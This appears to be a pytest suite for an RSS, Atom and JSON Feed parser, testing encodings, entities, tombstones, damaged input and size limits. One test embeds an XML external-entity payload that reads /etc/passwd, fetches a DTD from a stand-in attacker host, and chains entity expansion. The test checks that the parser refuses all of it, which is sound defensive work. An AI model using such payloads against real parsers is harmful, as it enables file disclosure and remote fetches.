import contextlib
import json
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feedsvc.errors import ReadError
from feedsvc.model import Document, Enclosure, Tombstone
from feedsvc.sources import feed, tombstones
from feedsvc.sources.feed import read_feed
from feedsvc.text import legal

FEEDS = Path(__file__).parent / "data" / "feeds"
NOW = datetime(2024, 6, 1, 4, 0, tzinfo=UTC)
CHINA = timezone(timedelta(hours=8))
URL = "https://feeds.example.org/rss.xml"


def read(body: str | bytes, content_type: str | None = None) -> Document:
    return read_feed(
        body.encode() if isinstance(body, str) else body, url=URL, content_type=content_type, now=NOW
    )


def sample(name: str) -> Document:
    return read((FEEDS / name).read_bytes())


def rss(*items: str, head: str = "") -> str:
    body = f"<channel><title>t</title>{''.join(items)}</channel>"
    return f'<?xml version="1.0"?>{head}<rss version="2.0">{body}</rss>'


def test_rss_091_with_a_doctype_and_html_entities() -> None:
    document = sample("rss091.xml")
    assert document.title == "柳河快讯"
    (article,) = document.articles
    assert (article.title, article.link) == ("柳河大桥今日通车", "http://liuhe.example.org/1.html")
    assert article.html == "<p>全长八百米的柳河大桥建成通车。</p>"
    assert (article.guid, article.published, article.author) == (None, None, None)


def test_rss_10_in_gbk_called_gb2312() -> None:
    (article,) = sample("rss10-gbk.xml").articles
    assert article.title == "梨园飘香迎来采摘季"
    assert article.author == "梨花"
    assert article.published == datetime(2018, 7, 30, 9, 12, tzinfo=CHINA)
    assert article.keywords == ("农业",)
    assert article.guid == "http://liuhe.example.org/2.html"


def test_rss_20() -> None:
    document = sample("rss20.xml")
    assert document.title == "青溪新闻 & 资讯"
    assert document.problems == ("entry 3: has neither title, text nor link",)
    first, second, third = document.articles
    assert first.title == "双重转义 A & B 粗体"
    assert first.link == "https://www.example.org/a.html?x=1&y=%E4%B8%AD"
    assert first.guid == "qx-001"
    assert first.html == '<p>全文&nbsp;第一段</p><p><img src="./1.jpg"></p>'
    assert first.summary == "<p>这是摘要&nbsp;一</p>"
    assert first.published == datetime(2018, 7, 30, 9, 12, tzinfo=CHINA)
    assert first.author == "溪边"
    assert first.keywords == ("三农", "春耕")
    assert first.rights == "© 青溪融媒"
    assert first.base_url == first.link
    assert first.enclosures == (
        Enclosure(url="/audio/1.mp3", type="audio/mpeg", length=123456),
        Enclosure(url="https://img.example.org/2.jpg", type="image/jpeg", length=None),
    )
    assert second.title == "只有永久标识的条目 <1>"
    assert second.link == second.guid == "https://www.example.org/b.html"
    assert second.html == "<p>第一行</p><p>第二行 &lt;尖括号&gt;</p>"
    assert second.author == "山间、林中"
    assert second.published == datetime(2018, 7, 30, 8, 0, tzinfo=CHINA)
    assert second.enclosures == (Enclosure(url="v.mp4", type="", length=None),)
    assert (third.title, third.author, third.link, third.published) == ("", None, None, None)
    assert third.html == "<p>没有标题的条目。后面还有一句。</p>"


def test_atom_03() -> None:
    (article,) = sample("atom03.xml").articles
    assert (article.title, article.link) == ("旧版条目", "http://old.example.org/1.html")
    assert article.html == "<p>旧版正文</p>"
    assert article.published == datetime(2004, 5, 6, 15, 8, 9, tzinfo=CHINA)
    assert article.updated == datetime(2004, 5, 7, 15, 8, 9, tzinfo=CHINA)


def test_atom_10() -> None:
    document = sample("atom10.xml")
    assert document.title == "原子 & 分子"
    first, second = document.articles
    assert first.title == "文本标题 <b> 与 &"
    assert first.guid == "https://atom.example.org/?p=1"
    assert first.link == "https://atom.example.org/blog/1.html"
    assert first.author == "甲、乙"
    assert first.keywords == ("三农", "春耕")
    assert first.html is not None
    assert first.html.startswith("<p>甲 &lt; 乙<br")
    assert first.summary == "<p>纯文本摘要 &lt;不是标签&gt;</p>"
    assert first.published == datetime(2024, 1, 1, 8, 0, tzinfo=CHINA)
    assert first.updated == datetime(2024, 1, 2, 8, 0, tzinfo=CHINA)
    assert first.base_url == "https://atom.example.org/blog/"
    assert first.enclosures == (
        Enclosure(url="https://atom.example.org/blog/a.mp3", type="audio/mpeg", length=99),
    )
    assert second.title == "结构标题 &lt;"
    assert second.link is None  # an Atom id is no link
    assert second.author == "编辑部"
    assert second.rights == "版权所有"
    assert second.html == "<p>第一行</p><p>第二行 &lt;x&gt;</p>"
    assert second.base_url == "https://atom.example.org/blog/other/"
    assert second.published is None


ATOM = '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:at="http://purl.org/atompub/tombstones/1.0">{}</feed>'


def test_atom_says_what_is_withdrawn() -> None:
    document = read(
        ATOM.format(
            '<at:deleted-entry ref=" urn:x:1 " when="2024-05-01T08:00:00+08:00"><at:comment>错</at:comment>'
            "</at:deleted-entry>"
            "<entry><id>urn:x:2</id><title>留着</title><content>deleted-entry</content>"
            '<at:deleted-entry ref="urn:x:2" when="2024-05-01T08:00:00Z"/></entry>'
            '<at:deleted-entry ref="urn:x:3" when="someday"/><at:deleted-entry ref="urn:x:4"/>'
            '<at:deleted-entry when="2024-05-01T08:00:00Z"/><at:deleted-entry ref=""/>'
            '<at:deleted-entry ref="urn:x:1" when="2024-05-03T08:00:00+08:00"/>'
            '<at:deleted-entry ref="urn:x:1" when="2024-05-02T08:00:00+08:00"/>'
            '<deleted-entry ref="urn:x:5" when="2024-05-01T08:00:00Z"/>'
        )
    )
    assert [a.title for a in document.articles] == ["留着"]
    assert document.withdrawn == (
        Tombstone(id="urn:x:1", when=datetime(2024, 5, 3, 8, 0, tzinfo=CHINA)),
        Tombstone(id="urn:x:3", when=NOW),
        Tombstone(id="urn:x:4", when=NOW),
    )


def test_tombstones_are_read_past_damage_and_are_bounded() -> None:
    tombstone = '<at:deleted-entry ref="{}" when="2024-05-01T08:00:00Z"/>'
    entry = "<entry><id>1</id><media:title>没有声明的前缀</media:title><title>题</title></entry>"
    damaged = ATOM.format(entry + tombstone.format("urn:x:1") + entry)[:-30]
    assert [t.id for t in read(damaged).withdrawn] == ["urn:x:1"]
    many = "".join(tombstone.format(n) for n in range(tombstones.MAX_TOMBSTONES + 1))
    assert len(read(ATOM.format(many)).withdrawn) == tombstones.MAX_TOMBSTONES
    assert (
        read(
            rss("<item><title>题</title></item>").replace("</channel>", "<!--deleted-entry--></channel>")
        ).withdrawn
        == ()
    )


def test_a_feed_of_tombstones_alone_is_a_feed() -> None:
    document = read(ATOM.format('<at:deleted-entry ref="1" when="2024-05-01T08:00:00Z"/>'))
    assert document.articles == ()
    assert [t.id for t in document.withdrawn] == ["1"]


def test_json_feed_is_known_by_its_content() -> None:
    document = read((FEEDS / "feed.json").read_bytes(), "text/plain")
    assert document.title == "青溪 JSON"
    assert [a.guid for a in document.articles] == ["1", "2", "5.5"]


@pytest.mark.parametrize(
    ("title", "read_as"),
    [
        ("A &amp; B", "A & B"),
        ("A &amp;amp; B", "A & B"),
        ("A &amp;amp;amp; B", "A &amp; B"),
        ("<![CDATA[A & B]]>", "A & B"),
        ("<![CDATA[A &amp; B]]>", "A & B"),
        ("1 &lt; 2", "1 < 2"),
        ("&lt;b&gt;粗&lt;/b&gt;", "粗"),
        ("&ldquo;引号&rdquo; &#8212; &hellip;", "“引号” — …"),
        ("AT&T & 甲&乙;", "AT&T & 甲&乙;"),
        ("控制&#x1;字符&#11;&#150;", "控制字符–"),
        ("  换\n行  ", "换 行"),
        ("😀 𠀀 e\u0301", "😀 𠀀 e\u0301"),
        ("９月 ０５ 日", "９月 ０５ 日"),
    ],
)
def test_titles(title: str, read_as: str) -> None:
    assert [a.title for a in read(rss(f"<item><title>{title}</title></item>")).articles] == [read_as]


@pytest.mark.parametrize("encoding", ["utf-8", "gbk", "big5"])
@pytest.mark.parametrize("declared", ["utf-8", "gb2312", "iso-8859-1", None])
def test_mislabelled_bytes(encoding: str, declared: str | None) -> None:
    declaration = f' encoding="{declared}"' if declared else ""
    title = "全市今日晴到多云" if encoding != "big5" else "全市今日晴到多雲"
    body = (
        f'<?xml version="1.0"{declaration}?><rss><channel><item><title>{title}</title></item></channel></rss>'
    )
    for content_type in (None, "text/xml", "text/xml; charset=iso-8859-1", "application/xml; charset=utf-8"):
        assert [a.title for a in read(body.encode(encoding), content_type).articles] == [title]


def test_entities_of_a_doctype_never_expand() -> None:
    head = (
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]>'
    )
    (article,) = read(rss("<item><title>甲&b;乙&x;丙&nbsp;丁</title></item>", head=head)).articles
    assert article.title == "甲&b;乙&x;丙 丁"


def test_damage_around_and_inside_is_read_past() -> None:
    good = "<item><title>好的条目</title><link>http://e.example.org/1</link></item>"
    assert len(read("\n\ufeff  " + rss(good)).articles) == 1
    assert (
        len(read("<br />\n<b>Warning</b>: mysql_connect() in <b>x.php</b><br />" + rss(good)).articles) == 1
    )
    assert len(read(rss(good, "<item><title>没有关闭<b></title></item>")).articles) == 2
    assert len(read(rss(good, good)[:-30]).articles) == 2
    assert (
        len(
            read(
                rss(good, "<item><media:title>没有声明的前缀</media:title><title>乙</title></item>")
            ).articles
        )
        == 2
    )
    assert len(read(rss(good).replace("</title>", "\x0b\ufffe</title>", 1)).articles) == 1


def test_a_valid_feed_may_be_empty() -> None:
    assert read(rss()).articles == ()
    assert read('<feed xmlns="http://www.w3.org/2005/Atom"/>').articles == ()


@pytest.mark.parametrize(
    ("body", "sentence"),
    [
        ("", "empty"),
        ("  \n ", "empty"),
        ("<!DOCTYPE html><html><body>404 <rss></body></html>", "HTML page"),
        (
            '<?xml version="1.0"?><!DOCTYPE html PUBLIC "x" "y"><html xmlns="http://www.w3.org/1999/xhtml"/>',
            "HTML page",
        ),
        ("<head><title>登录</title></head>", "HTML page"),
        ('<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"></urlset>', "sitemap"),
        ("<opml version='2.0'><body/></opml>", "<opml>"),
        ("只是一些文字", "nor XML"),
        ('{"error": "not found"}', "not a JSON Feed"),
        ("[1, 2]", "not a JSON Feed"),
        ('{"version": "https://jsonfeed.org/version/1.1"', "cannot be read"),
        ("[" * 100_000, "cannot be read"),
        ("<rss><channel><item", "broken XML"),
    ],
)
def test_what_is_no_feed_says_what_it_is(body: str, sentence: str) -> None:
    with pytest.raises(ReadError, match=sentence):
        read(body)


def test_entries_are_bounded_and_in_order() -> None:
    items = (f"<item><title>条目{i}</title></item>" for i in range(feed.MAX_ENTRIES + 1))
    document = read(rss(*items))
    assert [a.title for a in document.articles] == [f"条目{i}" for i in range(feed.MAX_ENTRIES)]
    assert document.problems == ("only the first 5000 of 5001 entries were read",)


@pytest.mark.parametrize(
    ("author", "name"),
    [
        ("a@example.org (某某)", "某某"),
        ("某某 &lt;a@example.org&gt;", "某某"),
        ("a@example.org", None),
        ("@青溪发布", "@青溪发布"),
        ("", None),
    ],
)
def test_authors(author: str, name: str | None) -> None:
    (article,) = read(rss(f"<item><title>题</title><author>{author}</author></item>")).articles
    assert article.author == name


def test_json_bombs_and_numbers() -> None:
    body = {
        "version": "https://jsonfeed.org/version/1",
        "items": [{"id": 10**400, "title": "题", "date_published": 10**300}],
    }
    (article,) = read(json.dumps(body)).articles
    assert (article.title, article.published) == ("题", None)


@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
def test_any_bytes_are_a_document_or_a_read_error(body: bytes) -> None:
    for wrapped in (body, b"<rss><channel><item><title>" + body + b"</title></item></channel></rss>"):
        with contextlib.suppress(ReadError):
            assert all(legal(a.title) == a.title for a in read(wrapped).articles)
